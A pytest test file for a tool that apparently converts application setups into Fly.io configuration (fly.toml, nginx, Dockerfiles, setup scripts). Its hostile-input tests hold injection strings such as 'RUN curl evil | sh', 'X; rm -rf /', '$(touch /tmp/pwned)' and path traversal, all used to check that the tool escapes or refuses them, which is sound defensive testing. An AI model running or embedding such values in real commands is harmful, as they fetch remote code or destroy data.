"""The Fly writer's choices and refusals: regions, sizes, autostop, routes, names, hostile input,
secrets."""

from __future__ import annotations

import re
import tomllib
from dataclasses import replace
from pathlib import Path

import pytest
from fly_writer_models import api_postgres, front_api, full
from fly_writer_tools import run_writer
from hypothesis import HealthCheck as HypothesisHealthCheck
from hypothesis import given, settings
from hypothesis import strategies as st

from hopper import api
from hopper.diagnostics import HopperError, InputError
from hopper.formats.base import WriteOptions
from hopper.model import (
    Architecture,
    Autostop,
    Binding,
    Build,
    Placement,
    Region,
    Role,
    Route,
    Runtime,
    Scaling,
    Service,
    StaticSite,
)
from support import CANARY, SAMPLES, copy_tree, run_cli


def _codes(diags: tuple[object, ...]) -> list[str]:
    return [d.code for d in diags]  # type: ignore[attr-defined]


# ---------------------------------------------------------------------------- regions

def test_region_is_the_nearest_current_fly_region_to_the_source() -> None:
    # Clever Cloud "par" (Paris): cdg without a managed database to sit next to.
    files, diags = run_writer(full(), postgres="unmanaged")
    assert tomllib.loads(files["api/fly.toml"])["primary_region"] == "cdg"
    assert "HOP501" in _codes(diags)


def test_a_retired_source_region_maps_to_a_current_one() -> None:
    arch = replace(api_postgres(), placement=Placement(primary=Region(code="mad", platform="fly")))
    files, _ = run_writer(arch, postgres="unmanaged")
    region = tomllib.loads(files["api/fly.toml"])["primary_region"]
    assert region != "mad" and region == "cdg"  # Madrid -> Paris, by distance


def test_no_placement_uses_the_documented_default_with_a_warning() -> None:
    files, diags = run_writer(front_api())
    assert tomllib.loads(files["api/fly.toml"])["primary_region"] == "iad"
    assert any(d.code == "HOP567" and "default" in d.message for d in diags)


def test_region_flag_wins_and_retired_region_is_refused_with_replacement() -> None:
    files, _ = run_writer(full(), region="ams")
    assert tomllib.loads(files["web/fly.toml"])["primary_region"] == "ams"
    with pytest.raises(HopperError) as err:
        run_writer(full(), region="waw")
    assert err.value.code == "HOP502" and "ams" in (err.value.diagnostic.hint or "")
    with pytest.raises(HopperError) as err:
        run_writer(full(), region="cgd")
    assert err.value.code == "HOP503" and "cdg" in (err.value.diagnostic.hint or "")


def test_no_retired_region_is_ever_emitted() -> None:
    from hopper import mappings

    retired = {c for c, r in mappings.regions("fly").items() if r.retired}
    for code, info in sorted(mappings.regions("fly").items()):
        arch = replace(api_postgres(), placement=Placement(primary=Region(
            code=code, platform="fly", latitude=info.latitude, longitude=info.longitude)))
        files, _ = run_writer(arch)
        assert tomllib.loads(files["api/fly.toml"])["primary_region"] not in retired
        assert not any(f"--region {r} " in files["fly-setup.sh"] for r in retired)


# ---------------------------------------------------------------------------- sizes

@pytest.mark.parametrize(("cpus", "memory", "size", "mem"), [
    (None, None, "shared-cpu-1x", "512mb"),
    (1, 300, "shared-cpu-1x", "512mb"),
    (2, 1000, "shared-cpu-2x", "1gb"),
    (1, 3000, "shared-cpu-2x", "3gb"),
    (0.5, 256, "shared-cpu-1x", "256mb"),
])
def test_vm_size_from_cpu_and_memory(cpus: float | None, memory: int | None, size: str, mem: str) -> None:
    base = api_postgres()
    svc = replace(base.services[0], scaling=Scaling(cpus=cpus, memory_mb=memory))
    files, diags = run_writer(replace(base, services=(svc,)))
    vm = tomllib.loads(files["api/fly.toml"])["vm"][0]
    assert (vm["size"], vm["memory"]) == (size, mem)
    assert "HOP504" in _codes(diags)


def test_too_much_memory_is_clamped_with_a_warning() -> None:
    base = api_postgres()
    svc = replace(base.services[0], scaling=Scaling(cpus=1, memory_mb=64 * 1024, cpu_kind="shared"))
    files, diags = run_writer(replace(base, services=(svc,)))
    assert tomllib.loads(files["api/fly.toml"])["vm"][0]["size"] == "shared-cpu-8x"
    assert "HOP505" in _codes(diags)


# ---------------------------------------------------------------------------- autostop, routes

def test_defaults_stop_with_front_one_and_api_zero() -> None:
    files, diags = run_writer(front_api())
    front = tomllib.loads(files["front/fly.toml"])["http_service"]
    apis = tomllib.loads(files["api/fly.toml"])["http_service"]
    assert (front["auto_stop_machines"], front["min_machines_running"], front["force_https"]) == ("stop", 1, True)
    assert (apis["auto_stop_machines"], apis["min_machines_running"], apis["force_https"]) == ("stop", 0, False)
    assert "HOP514" in _codes(diags)


def test_flags_override_autostop_and_min_running() -> None:
    files, _ = run_writer(front_api(), autostop="suspend", min_running=2)
    for rel in ("front/fly.toml", "api/fly.toml"):
        svc = tomllib.loads(files[rel])["http_service"]
        assert (svc["auto_stop_machines"], svc["min_machines_running"]) == ("suspend", 2)


@pytest.mark.parametrize("autostop", [None, "off", "stop", "suspend"])
def test_front_reaches_the_api_over_flycast_whatever_its_autostop(autostop: str | None) -> None:
    # .internal resolves to IPv6 only and never wakes a Machine: one rule for every source.
    files, diags = run_writer(front_api(), autostop=autostop)
    conf = files["front/nginx.fly.conf"]
    assert "proxy_pass http://shop-api.flycast;" in conf
    assert ".internal" not in conf
    assert tomllib.loads(files["api/fly.toml"])["http_service"]["force_https"] is False
    assert "--flycast" in files[".github/workflows/fly-deploy-api.yml"]
    assert "HOP516" in _codes(diags)


def test_source_autostop_off_is_kept_and_still_reached_over_flycast() -> None:
    files, _ = run_writer(front_api(autostop=Autostop.OFF))
    assert tomllib.loads(files["api/fly.toml"])["http_service"]["auto_stop_machines"] == "off"
    assert "http://shop-api.flycast" in files["front/nginx.fly.conf"]
    assert ".internal" not in files["front/nginx.fly.conf"]


def test_suspend_falls_back_to_stop_over_2gb() -> None:
    base = api_postgres()
    svc = replace(base.services[0], scaling=Scaling(cpus=2, memory_mb=4096))
    files, diags = run_writer(replace(base, services=(svc,)), autostop="suspend")
    assert tomllib.loads(files["api/fly.toml"])["http_service"]["auto_stop_machines"] == "stop"
    assert "HOP515" in _codes(diags)


def test_bad_options_are_refused() -> None:
    for opts in ({"autostop": "sometimes"}, {"postgres": "mysql"}, {"app_prefix": "Bad_Prefix"},
                 {"org": "my org"}, {"min_running": -1}):
        with pytest.raises(HopperError):
            run_writer(front_api(), **opts)


# ---------------------------------------------------------------------------- workers, volumes

def test_worker_with_volume_becomes_a_process_group_with_a_mount() -> None:
    files, diags = run_writer(full())
    doc = tomllib.loads(files["api/fly.toml"])
    assert doc["processes"] == {"app": "", "thumbnailer": "node src/worker.js"}
    assert doc["mounts"] == [{"source": "thumb_cache", "destination": "/var/cache/thumbs",
                              "initial_size": "3gb", "processes": ["thumbnailer"]}]
    assert doc["http_service"]["processes"] == ["app"]
    codes = _codes(diags)
    assert "HOP510" in codes and "HOP511" in codes and "HOP526" in codes and "HOP569" in codes


def test_release_command_and_unit_string_durations() -> None:
    doc = tomllib.loads(run_writer(api_postgres())[0]["api/fly.toml"])
    # Managed Postgres: the migration gets the direct URL (release.py); unmanaged: as written.
    assert doc["deploy"]["release_command"].endswith("' npx prisma migrate deploy")
    unmanaged = tomllib.loads(run_writer(api_postgres(), postgres="unmanaged")[0]["api/fly.toml"])
    assert unmanaged["deploy"]["release_command"] == "npx prisma migrate deploy"
    check = doc["http_service"]["checks"][0]
    assert (check["interval"], check["timeout"], check["grace_period"]) == ("15s", "2s", "20s")


def test_unmanaged_postgres_on_request() -> None:
    script = run_writer(full(), postgres="unmanaged")[0]["fly-setup.sh"]
    assert "flyctl postgres create --name photo-share-pg" in script
    assert "--initial-cluster-size 3" in script
    assert "flyctl postgres attach photo-share-pg --app photo-share-api --variable-name DATABASE_URL --yes" in script
    assert "mpg" not in script


def test_platform_names_the_app_reads_are_derived_and_listed_in_the_runbook() -> None:
    files, diags = run_writer(full())
    assert "CMD" in files["api/Dockerfile.fly"] and 'ENTRYPOINT ["/usr/local/bin/hopper-env.sh"]' in files["api/Dockerfile.fly"]
    runbook = files["MIGRATION.md"]
    assert "| `photo-share-api` | `POSTGRESQL_ADDON_HOST` | `DATABASE_URL` (host) |" in runbook
    assert "| `photo-share-api` | `CELLAR_ADDON_KEY_ID` | `AWS_ACCESS_KEY_ID` |" in runbook
    # The compose-era value of a bound name is not written to [env] (it would shadow the shim).
    assert "POSTGRESQL_ADDON_HOST" not in tomllib.loads(files["api/fly.toml"]).get("env", {})
    assert "HOP518" in _codes(diags)


# ---------------------------------------------------------------------------- hostile input

HOSTILE = ["a'b", 'q"uote', "$(touch /tmp/pwned)", "`id`", "x\ny", "-rf", "..", "a;b", "${HOME}", "\\"]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_env_values_stay_inside_their_string(value: str) -> None:
    base = api_postgres()
    svc = base.services[0]
    env = {**svc.runtime.env, "GREETING": value}
    arch = replace(base, services=(replace(svc, runtime=replace(svc.runtime, env=env)),))
    files, _ = run_writer(arch)
    doc = tomllib.loads(files["api/fly.toml"])
    assert doc["env"]["GREETING"] == value
    assert set(doc) == {"app", "primary_region", "build", "deploy", "env", "http_service", "vm"}
    for rel, text in files.items():
        if rel.endswith((".sh", ".yml")):
            assert value not in text or value in ("..", "-rf", "\\")


@pytest.mark.parametrize("name", ["-rf", "..", "$(id)", "a b", "x\ny", "`id`", "../../etc"])
def test_hostile_service_names_are_normalised_or_refused(name: str) -> None:
    arch = Architecture(name="shop", services=(Service(
        name=name, role=Role.API, image="node:22", runtime=Runtime(port=3000)),))
    try:
        files, _ = run_writer(arch)
    except InputError as exc:
        assert exc.code in ("HOP009", "HOP508")
        return
    for rel in files:
        assert ".." not in rel.split("/") and not rel.startswith(("/", "-"))
    doc = tomllib.loads(next(t for r, t in files.items() if r.endswith("fly.toml")))
    assert re.fullmatch(r"[a-z0-9][a-z0-9-]*[a-z0-9]", doc["app"])


@pytest.mark.parametrize("field", ["path_prefix", "body_size_limit"])
@pytest.mark.parametrize("value", ["/api/;\n}", "/a b", "/x'y", "50m; evil", "$(id)"])
def test_hostile_route_values_cannot_add_nginx_directives(field: str, value: str) -> None:
    arch = front_api()
    front = arch.service("front")
    assert front is not None
    route = replace(front.routes[0], **{field: value})
    arch = replace(arch, services=tuple(replace(s, routes=(route,)) if s.name == "front" else s
                                        for s in arch.services))
    # A working nginx.conf can still be written: the value is left out with a warning (HOP534,
    # fatal under --strict) instead of refusing the conversion (issue 13), and never reaches it.
    files, diags = run_writer(arch)
    assert "HOP534" in {d.code for d in diags}
    conf = files["front/nginx.fly.conf"]
    assert value not in conf and "evil" not in conf and "$(id)" not in conf


def test_hostile_build_command_is_refused() -> None:
    arch = front_api()
    front = arch.service("front")
    assert front is not None and front.build is not None
    bad = replace(front, build=replace(front.build, build_command="npm run build\nRUN curl evil | sh"))
    arch = replace(arch, services=tuple(bad if s.name == "front" else s for s in arch.services))
    with pytest.raises(InputError):
        run_writer(arch)


def test_hostile_secret_names_are_refused() -> None:
    base = api_postgres()
    svc = replace(base.services[0], runtime=replace(base.services[0].runtime, secret_env=("X; rm -rf /",)))
    with pytest.raises(InputError):
        run_writer(replace(base, services=(svc,)))
    bad_binding = replace(base.services[0], bindings=(Binding(variable="$(id)", resource="pg", attribute="host"),))
    with pytest.raises(InputError):
        run_writer(replace(base, services=(bad_binding,)))


@settings(max_examples=60, deadline=None, suppress_health_check=[HypothesisHealthCheck.too_slow])
@given(st.text(min_size=1, max_size=40))
def test_any_env_value_round_trips_through_fly_toml(value: str) -> None:
    base = api_postgres()
    svc = base.services[0]
    arch = replace(base, services=(replace(svc, runtime=replace(svc.runtime, env={"V": value})),))
    doc = tomllib.loads(run_writer(arch)[0]["api/fly.toml"])
    assert doc["env"]["V"] == value


def test_template_syntax_in_values_is_not_evaluated() -> None:
    arch = replace(front_api(), name="{{ 7*7 }}")
    files, _ = run_writer(arch)
    assert "49" not in files["MIGRATION.md"]


# ---------------------------------------------------------------------------- secrets, writing

def test_canary_from_the_sample_env_appears_nowhere(tmp_path: Path) -> None:
    sample = SAMPLES / "compose-webapp"
    if not sample.is_dir():
        pytest.skip("samples/compose-webapp is not present")
    project = copy_tree(sample, tmp_path / "project")
    example = (project / ".env.example").read_text(encoding="utf-8")
    env = re.sub(r"^([A-Z_]*(PASSWORD|SECRET)[A-Z_]*)=.*$", rf"\1={CANARY}", example, flags=re.M)
    (project / ".env").write_text(env + f"\nPOSTGRES_PASSWORD={CANARY}\n", encoding="utf-8")
    out = tmp_path / "out"
    result = run_cli("-v", "convert", project, "--to", "fly", "--out", out)
    assert result.code == 0, result.stderr
    assert CANARY not in result.stdout + result.stderr
    for path in out.rglob("*"):
        if path.is_file():
            assert CANARY not in path.read_text(encoding="utf-8"), path
    dry = run_cli("-v", "convert", project, "--to", "fly", "--dry-run")
    assert CANARY not in dry.stdout + dry.stderr


def test_dry_run_writes_nothing_and_lists_files(tmp_path: Path) -> None:
    sample = SAMPLES / "compose-webapp"
    if not sample.is_dir():
        pytest.skip("samples/compose-webapp is not present")
    out = tmp_path / "out"
    result = run_cli("convert", sample, "--to", "fly", "--out", out, "--dry-run")
    assert result.code == 0, result.stderr
    assert "front/fly.toml" in result.stdout and "fly-setup.sh" in result.stdout
    assert not out.exists()


def test_existing_files_are_not_replaced_without_force(tmp_path: Path) -> None:
    sample = SAMPLES / "compose-webapp"
    if not sample.is_dir():
        pytest.skip("samples/compose-webapp is not present")
    out = tmp_path / "out"
    (out / "front").mkdir(parents=True)
    (out / "front" / "fly.toml").write_text("mine\n", encoding="utf-8")
    result = run_cli("convert", sample, "--to", "fly", "--out", out)
    assert result.code != 0
    assert (out / "front" / "fly.toml").read_text(encoding="utf-8") == "mine\n"
    assert sorted(p.name for p in out.rglob("*") if p.is_file()) == ["fly.toml"]
    assert run_cli("convert", sample, "--to", "fly", "--out", out, "--force").code == 0
    assert (out / "front" / "fly.toml").read_text(encoding="utf-8") != "mine\n"


def test_a_failed_conversion_leaves_nothing(tmp_path: Path) -> None:
    sample = SAMPLES / "compose-webapp"
    if not sample.is_dir():
        pytest.skip("samples/compose-webapp is not present")
    out = tmp_path / "out"
    result = run_cli("convert", sample, "--to", "fly", "--out", out, "--region", "waw")
    assert result.code == 1 and "HOP502" in result.stderr
    assert not out.exists() or not any(out.rglob("*"))


def test_front_without_build_serves_a_bound_static_folder() -> None:
    from hopper.model import Volume, VolumeKind

    front = Service(name="site", role=Role.FRONT, image="nginx:1.27",
                    static_site=StaticSite(spa_fallback=True),
                    volumes=(Volume(name="html", target="/usr/share/nginx/html", kind=VolumeKind.BIND,
                                    source="./public"),),
                    routes=(Route(path_prefix="/api/", target_service="api"),))
    apis = Service(name="api", role=Role.API, build=Build(context="api", dockerfile="api/Dockerfile"),
                   runtime=Runtime(port=5000))
    files, diags = run_writer(Architecture(name="x", services=(front, apis)))
    assert 'COPY ["public/", "/usr/share/nginx/html/"]' in files["site/Dockerfile.fly"]
    assert tomllib.loads(files["api/fly.toml"])["build"]["dockerfile"] == "Dockerfile"
    assert "HOP511" not in _codes(diags)


def test_library_convert_matches_cli_for_the_sample(tmp_path: Path) -> None:
    sample = SAMPLES / "compose-webapp"
    if not sample.is_dir():
        pytest.skip("samples/compose-webapp is not present")
    files = api.convert(sample, "fly", write_options=WriteOptions()).files
    out = tmp_path / "out"
    assert run_cli("convert", sample, "--to", "fly", "--out", out).code == 0
    assert {p.relative_to(out).as_posix(): p.read_text(encoding="utf-8")
            for p in out.rglob("*") if p.is_file()} == dict(files)


# ---------------------------------------------------------------------------- monorepos

def test_monorepo_sample_prunes_each_app_to_its_package() -> None:
    sample = SAMPLES / "monorepo-webapp"
    if not sample.is_dir():
        pytest.skip("samples/monorepo-webapp is not present")
    files = api.convert(sample, "fly", write_options=WriteOptions()).files
    front, apis = files["front/Dockerfile.fly"], files["api/Dockerfile.fly"]
    assert "turbo@2 prune @webapp/front --docker" in front
    assert "turbo@2 prune @webapp/api --docker" in apis
    for text in (front, apis):
        assert 'COPY --from=prune ["/app/out/pnpm-lock.yaml", "./pnpm-lock.yaml"]' in text
        assert "RUN pnpm install --frozen-lockfile" in text
    assert 'COPY --from=build ["/app/apps/front/dist/", "/usr/share/nginx/html/"]' in front
    assert "WORKDIR /app/apps/api" in apis and "USER node" in apis
    front_wf = files[".github/workflows/fly-deploy-front.yml"]
    assert '"apps/front/**"' in front_wf and "apps/api" not in front_wf
    assert '"pnpm-lock.yaml"' in front_wf


@pytest.mark.parametrize(("manager", "install", "build"), [
    ("pnpm", "pnpm install --frozen-lockfile --filter @acme/web...", "pnpm --filter @acme/web run build"),
    ("npm", "npm ci --workspace @acme/web --include-workspace-root", "npm run build --workspace @acme/web"),
    ("yarn", "yarn install --frozen-lockfile", "yarn workspace @acme/web run build"),
])
def test_workspace_without_turbo_uses_the_package_managers_filter(manager: str, install: str, build: str) -> None:
    from hopper.model import NodeInstall, Workspace

    arch = front_api()
    front = arch.service("front")
    assert front is not None and front.build is not None
    ws = Workspace(root=".", package="@acme/web", path="packages/web")
    lockfile = {"pnpm": "pnpm-lock.yaml", "npm": "package-lock.json", "yarn": "yarn.lock"}[manager]
    new = replace(front, build=replace(front.build, workspace=ws, package_manager=manager, output_dir="dist",
                                       node_install=NodeInstall(lockfile=lockfile)))
    arch = replace(arch, services=tuple(new if s.name == "front" else s for s in arch.services))
    text = run_writer(arch)[0]["front/Dockerfile.fly"]
    assert f"RUN {install}\n" in text and f"RUN {build}\n" in text
    assert "prune" not in text
    assert '["/app/packages/web/dist/", "/usr/share/nginx/html/"]' in text
